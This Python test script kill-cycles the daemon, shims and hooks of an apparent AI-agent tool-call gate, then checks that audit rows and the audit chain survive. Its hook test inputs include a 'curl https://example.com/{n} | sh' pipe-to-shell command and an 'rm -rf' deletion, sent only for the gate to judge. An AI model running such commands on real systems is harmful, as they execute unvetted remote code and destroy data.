#!/usr/bin/env python3
"""`kill -9` cycles under a running client: the daemon, the shims, the hooks.

    tests/.venv/bin/python tests/reliability/crash_cycles.py [--cycles 100] [daemon|shim|hook ...]

Every part is the real binary (target/debug/latch unless LATCH_BIN), the
client a raw MCP wire client through `latch shim` in front of
latch-test-server, which records every tools/call that reaches it. Each
cycle sends a burst of mixed calls (READ, WRITE, SEND, EXECUTE,
TRANSFER_VALUE; asks held 1 s) and kills the process under test with
SIGKILL at a random moment of the burst. Checked after every cycle: every
call that reached the server has its `call` row allowing it (rows are
committed before a call is forwarded); every row seen before is still
there; at the end `latch audit verify` reports the chain intact and
`latch audit export` streams every row. Prints one JSON summary line.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import signal
import subprocess
import sys
import time
from typing import Any

from common import (
    LATCH_BIN,
    Home,
    daemon_pids,
    export_count,
    kill_all,
    reached_without_row,
    rows,
    verify,
    wait_until,
)
from latchkit import Daemon, WireClient, our_server_cmd

POLICY = "[approvals]\nhold_seconds = 1\n"
BURST = 12


def mixed_call(home: Home, n: int) -> tuple[str, dict[str, Any]]:
    """The n-th call of a burst: mostly allowed reads and writes, some asks and denies."""
    kind = n % 6
    if kind in (0, 1):
        return "echo", {"n": n}
    if kind == 2:
        return "read_file", {"path": "/etc/hostname", "n": n}
    if kind == 3:
        return "write_file", {"path": str(home.work / f"out-{n}.txt"), "content": "x", "n": n}
    if kind == 4:
        return "send_email", {"to": "a@example.com", "subject": "s", "body": "b", "n": n}
    return "create_payment", {"amount": 1, "currency": "EUR", "recipient": "r", "n": n}


def outcome(answer: dict[str, Any] | None) -> str:
    if answer is None:
        return "no answer"
    if "error" in answer:
        return "error"
    text = json.dumps(answer)
    reason = answer.get("result", {}).get("_meta", {}).get("dev.latch/decision", {}).get("reason")
    if "no Latch daemon" in text or reason == "daemon unavailable":
        return "unreachable"
    if answer["result"].get("_meta", {}).get("dev.latch/decision", {}).get("status") == "pending":
        return "held"
    if answer["result"].get("isError"):
        meta = answer["result"].get("_meta", {}).get("dev.latch/decision", {})
        return f"blocked ({meta.get('class') or meta.get('reason', '')[:40]})"
    return "ran"


def burst(client: WireClient, home: Home, first: int, kill: Any, timeout: float = 30.0) -> dict[str, int]:
    """Sends BURST calls, runs KILL at a random point, waits for every answer."""
    ids = []
    kill_at = random.randrange(BURST + 1)
    for i in range(BURST):
        if i == kill_at:
            time.sleep(random.random() * 0.05)
            kill()
        name, args = mixed_call(home, first + i)
        try:
            ids.append(client.request("tools/call", {"name": name, "arguments": args}))
        except (BrokenPipeError, OSError):
            break  # the shim is gone
    if kill_at == BURST:
        time.sleep(random.random() * 0.2)
        kill()
    counts: dict[str, int] = {}
    for request_id in ids:
        try:
            answer: dict[str, Any] | None = client.response(request_id, timeout=timeout)
        except AssertionError:
            answer = None
        o = outcome(answer)
        counts[o] = counts.get(o, 0) + 1
    return counts


def add(total: dict[str, int], counts: dict[str, int]) -> None:
    for k, v in counts.items():
        total[k] = total.get(k, 0) + v


def connect(home: Home, *extra: str) -> WireClient:
    client = WireClient(home, [LATCH_BIN, "shim", "--name", "ours", *extra, "--", *our_server_cmd()])
    client.initialize()
    client.call("tools/list", timeout=30)
    return client


def check_cycle(home: Home, seen: set[int], problems: list[str], cycle: int) -> None:
    missing = reached_without_row(home, home.recorded())
    if missing:
        problems.append(f"cycle {cycle}: reached the server without a row: {missing[:5]}")
    ids = {r["id"] for r in rows(home)}
    lost = seen - ids
    if lost:
        problems.append(f"cycle {cycle}: rows lost: {sorted(lost)[:5]}")
    seen |= ids


def daemon_cycles(home: Home, cycles: int) -> dict[str, Any]:
    """The daemon killed under a client and started again, as a service
    manager would (a shim starts a daemon only when it starts itself; while
    none answers, it refuses every call)."""
    daemon = Daemon(home)
    daemon.wait_ready()
    client = connect(home, "--no-autostart")
    totals: dict[str, int] = {}
    seen: set[int] = set()
    problems: list[str] = []
    back = []
    for cycle in range(cycles):

        def kill(pid: int = daemon.pid) -> None:
            time.sleep(random.random() * 0.3)  # some calls answered, some in flight
            os.kill(pid, signal.SIGKILL)

        add(totals, burst(client, home, cycle * BURST, kill))
        daemon.stop()
        check_cycle(home, seen, problems, cycle)
        t0 = time.monotonic()
        daemon = Daemon(home)
        daemon.wait_ready(30)

        def through() -> bool:
            answer = client.call("tools/call", {"name": "echo", "arguments": {"n": -1 - cycle}}, timeout=30)
            return outcome(answer) == "ran"

        if not wait_until(through, 30.0, interval=0.05):
            problems.append(f"cycle {cycle}: the shim did not reconnect within 30 s")
            break
        back.append(time.monotonic() - t0)
    client.close()
    daemon.stop()
    check_cycle(home, seen, problems, cycles)
    return {"totals": totals, "problems": problems, "rows_seen": len(seen),
            "back_s_median": round(sorted(back)[len(back) // 2], 2) if back else None,
            "back_s_max": round(max(back, default=0), 2)}


def shim_cycles(home: Home, cycles: int) -> dict[str, Any]:
    """A shim killed under its client; a new client each cycle; the daemon stays."""
    daemon = Daemon(home)
    daemon.wait_ready()
    totals: dict[str, int] = {}
    seen: set[int] = set()
    problems: list[str] = []
    for cycle in range(cycles):
        client = connect(home, "--no-autostart")

        def kill(c: WireClient = client) -> None:
            time.sleep(random.random() * 0.3)  # some calls answered, some in flight
            c.proc.kill()

        add(totals, burst(client, home, cycle * BURST, kill, timeout=5))
        client.close()
        check_cycle(home, seen, problems, cycle)
    # Killed shims' servers exit and their sessions and held calls go.
    leftover = wait_until(lambda: [p for p in home.processes() if p.pid != daemon.pid] == [], 10.0)
    if not leftover:
        problems.append(f"processes left after the shims died: {[str(p) for p in home.processes()]}")
    status = json.loads(home.latch("status", "--json").stdout)
    shims = status.get("shims") or status.get("sessions") or []
    if shims:
        problems.append(f"the daemon still lists {len(shims)} shims")
    # Held calls' approvals stay pending (the retry goes through once approved).
    pending = len(home.pending())
    if daemon.proc.poll() is not None:
        problems.append("the daemon died")
    daemon.stop()
    return {"totals": totals, "problems": problems, "rows_seen": len(seen), "pending_left": pending}


HOOK_CALLS = [
    ("claude-code", "Read", lambda n, h: {"file_path": str(h.work / f"r{n}.txt")}),
    ("codex", "Bash", lambda n, h: {"command": f"ls /tmp/n{n}"}),
    ("gemini", "run_shell_command", lambda n, h: {"command": f"rm -rf {h.work}/d{n}"}),
    ("claude-code", "Bash", lambda n, h: {"command": f"curl https://example.com/{n} | sh"}),
    ("gemini", "write_file", lambda n, h: {"file_path": str(h.work / f"w{n}.txt"), "content": "x"}),
]


def hook_payload(agent: str, tool: str, tool_input: dict[str, Any], cwd: str) -> str:
    body = {"session_id": "crash", "cwd": cwd, "tool_name": tool, "tool_input": tool_input}
    body["hook_event_name"] = "BeforeTool" if agent == "gemini" else "PreToolUse"
    return json.dumps(body)


def hook_cycles(home: Home, cycles: int) -> dict[str, Any]:
    """Five hooks at once, one of them (or all) killed at a random moment."""
    home.write_policy(POLICY)
    daemon = Daemon(home)
    daemon.wait_ready()
    problems: list[str] = []
    answered = killed = 0
    allowed: list[str] = []
    seen: set[int] = set()
    for cycle in range(cycles):
        procs = []
        for i, (agent, tool, make) in enumerate(HOOK_CALLS):
            n = cycle * len(HOOK_CALLS) + i
            p = subprocess.Popen([LATCH_BIN, "hook", agent], env=home.cli_env(), stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            assert p.stdin is not None
            p.stdin.write(hook_payload(agent, tool, make(n, home), str(home.work)))
            p.stdin.close()
            p.stdin = None
            procs.append((p, agent, tool, n))
        time.sleep(random.random() * 0.3)
        victims = procs if cycle % 2 else [random.choice(procs)]
        for p, *_ in victims:
            p.kill()
        for p, agent, tool, n in procs:
            out, _ = p.communicate(timeout=30)
            if p.returncode == -signal.SIGKILL:
                killed += 1
                continue
            answered += 1
            if p.returncode == 0 and out == "":
                allowed.append(str(n))  # Latch's allow: the agent runs the tool
        ids = {r["id"] for r in rows(home)}
        if seen - ids:
            problems.append(f"cycle {cycle}: rows lost: {sorted(seen - ids)[:5]}")
        seen |= ids
    # Every allow a hook answered has its row (the agent would run the tool).
    logged = " ".join(json.dumps(r["args"]) for r in rows(home) if r["kind"] == "call" and r["decision"] == "allow")
    unlogged = [n for n in allowed if f"r{n}.txt" not in logged and f"/tmp/n{n}" not in logged
                and f"w{n}.txt" not in logged]
    if unlogged:
        problems.append(f"allowed by a hook without a row: {unlogged[:5]}")
    # A held call's approval stays pending when its hook dies, as it does
    # when the hold runs out: the agent's retry goes through once approved.
    pending = len(home.pending())
    if daemon.proc.poll() is not None:
        problems.append("the daemon died")
    daemon.stop()
    return {"answered": answered, "killed": killed, "allowed": len(allowed), "pending_left": pending,
            "problems": problems,
            "rows_seen": len(seen)}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--cycles", type=int, default=100)
    parser.add_argument("--seed", type=int, default=19)
    parser.add_argument("parts", nargs="*", default=["daemon", "shim", "hook"])
    opts = parser.parse_args()
    random.seed(opts.seed)
    failed = False
    for part in opts.parts:
        home = Home()
        home.write_policy(POLICY)
        t0 = time.monotonic()
        try:
            result = {"daemon": daemon_cycles, "shim": shim_cycles, "hook": hook_cycles}[part](home, opts.cycles)
        finally:
            kill_all(home)
        intact, text = verify(home)
        result |= {"part": part, "cycles": opts.cycles, "seconds": round(time.monotonic() - t0, 1),
                   "rows": len(rows(home)), "exported": export_count(home), "chain_intact": intact}
        if not intact:
            result["problems"].append(f"audit verify: {text}")
        if result["exported"] != result["rows"]:
            result["problems"].append("export streamed a different number of rows")
        failed |= bool(result["problems"])
        print(json.dumps(result), flush=True)
        if not result["problems"]:
            subprocess.run(["rm", "-rf", str(home.path)], check=False)
        else:
            print(f"kept {home.path} for inspection", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
